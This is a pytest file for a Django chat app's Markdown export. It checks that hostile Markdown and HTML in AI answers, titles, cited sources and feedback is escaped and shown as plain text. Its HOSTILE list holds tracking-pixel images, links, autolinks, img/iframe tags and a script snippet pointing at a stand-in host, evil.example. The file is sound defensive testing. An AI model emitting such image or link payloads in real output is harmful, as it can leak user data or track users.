"""The Markdown export shows hostile text as text: an image, link, autolink or HTML tag written
by the model (or by a person, or in a cited document) renders as those characters in a
Markdown viewer, and loads or links nothing; citation markers like [1] stay as they are."""

from __future__ import annotations

import pytest
from django.urls import reverse
from markdown_it import MarkdownIt

from chat import services
from chat.models import Feedback
from tests.chat.factories import make_cited_document, make_conversation, make_passage

pytestmark = pytest.mark.django_db

EVIL = "https://evil.example"
# Every way we know to make a CommonMark (or GitHub) viewer fetch or link something.
HOSTILE = [
    f"![]({EVIL}/pixel.png)",
    f"![tracking pixel]({EVIL}/p.gif?user=alice)",
    f"[click here]({EVIL}/login)",
    f"<{EVIL}/autolink>",
    "<alice@evil.example>",
    f'<img src="{EVIL}/img.png">',
    f'<a href="{EVIL}">a</a>',
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    f"[1]({EVIL}/citation-as-link)",
    f"![1]({EVIL}/citation-as-image)",
    f"![logo][pic]\n\n[pic]: {EVIL}/reference.png",
    f"[1]: {EVIL}/definition-for-citation-1",
    f"\\![x]({EVIL}/escaped-bang)",
    f"\\\\![x]({EVIL}/escaped-backslash)",
    f"[[1]]({EVIL}/nested)",
    f"`code` ![x]({EVIL}/after-code) ``a`` [y]({EVIL}/after-code-2)",
    f"[x](<{EVIL}/angle>)",
    f"[x]\n({EVIL}/newline)",
]
FORBIDDEN = {"image", "link_open", "html_inline", "html_block"}


def rendered_tokens(markdown: str) -> list:
    """Every token a CommonMark viewer (with GitHub tables) makes of ``markdown``."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens, stack = [], list(parser.parse(markdown))
    while stack:
        token = stack.pop()
        tokens.append(token)
        stack.extend(token.children or [])
    return tokens


def rendered_text(markdown: str) -> str:
    return "".join(t.content for t in rendered_tokens(markdown) if t.type in ("text", "code_inline"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markdown_text_renders_as_the_text_it_is(hostile):
    markdown = services.markdown_text(hostile)
    tokens = rendered_tokens(markdown)
    assert not {t.type for t in tokens} & FORBIDDEN, markdown
    html = MarkdownIt("commonmark").render(markdown)
    assert "<img" not in html and "<a " not in html and "<script" not in html, html


def test_the_visible_text_is_the_original_text():
    hostile = f"See ![chart]({EVIL}/c.png) and <b>bold</b> \\ [note] [2]."
    assert rendered_text(services.markdown_text(hostile)) == hostile


def test_citation_markers_stay_as_written():
    assert services.markdown_text("Every 40 days [1], or 30 [2][3].") == "Every 40 days [1], or 30 [2][3]."


def test_the_export_neutralises_answers_questions_titles_sources_and_feedback(alice):
    passage = make_passage(
        f"Manual ![logo]({EVIL}/title.png)",
        f"<img src={EVIL}/location.png>",
        f"Descale every 40 days.\n[Official site]({EVIL}/passage)\n<iframe src={EVIL}/frame></iframe>",
        0.9,
    )
    make_cited_document(alice, passage)
    conversation = make_conversation(
        alice,
        title=f"Title ![t]({EVIL}/conversation-title.png)",
        exchanges=[
            (
                f"How often? ![q]({EVIL}/question.png)",
                f"Every 40 days [1]. ![pixel]({EVIL}/answer.png) <{EVIL}/auto> [here]({EVIL}/link) "
                f'<img src="{EVIL}/html.png"> [1]({EVIL}/marker)',
            )
        ],
        sources=[passage],
    )
    answer = conversation.messages.get(role="assistant")
    services.set_feedback(answer, Feedback.DOWN, f"wrong ![f]({EVIL}/feedback.png)")

    exported = services.export_markdown(conversation)

    tokens = rendered_tokens(exported)
    assert not {t.type for t in tokens} & FORBIDDEN, exported
    text = rendered_text(exported)
    # Shown, as text, where they were written.
    for written in (
        f"![pixel]({EVIL}/answer.png)",
        f"<{EVIL}/auto>",
        f"![q]({EVIL}/question.png)",
        f"![t]({EVIL}/conversation-title.png)",
        f"Manual ![logo]({EVIL}/title.png)",
        f"[Official site]({EVIL}/passage)",
        f"![f]({EVIL}/feedback.png)",
    ):
        assert written in text, written
    assert "Every 40 days [1]." in exported  # the citation marker is untouched
    assert "1. **Manual" in exported  # the sources list keeps its shape


def test_the_downloaded_export_is_neutralised_too(alice, alice_client):
    conversation = make_conversation(alice, title="Pixels", exchanges=[("Hi", f"![x]({EVIL}/download.png)")])
    body = alice_client.get(reverse("chat:export_md", args=[conversation.public_id])).content.decode()
    assert not {t.type for t in rendered_tokens(body)} & FORBIDDEN
    assert f"\\!\\[x]({EVIL}/download.png)" in body
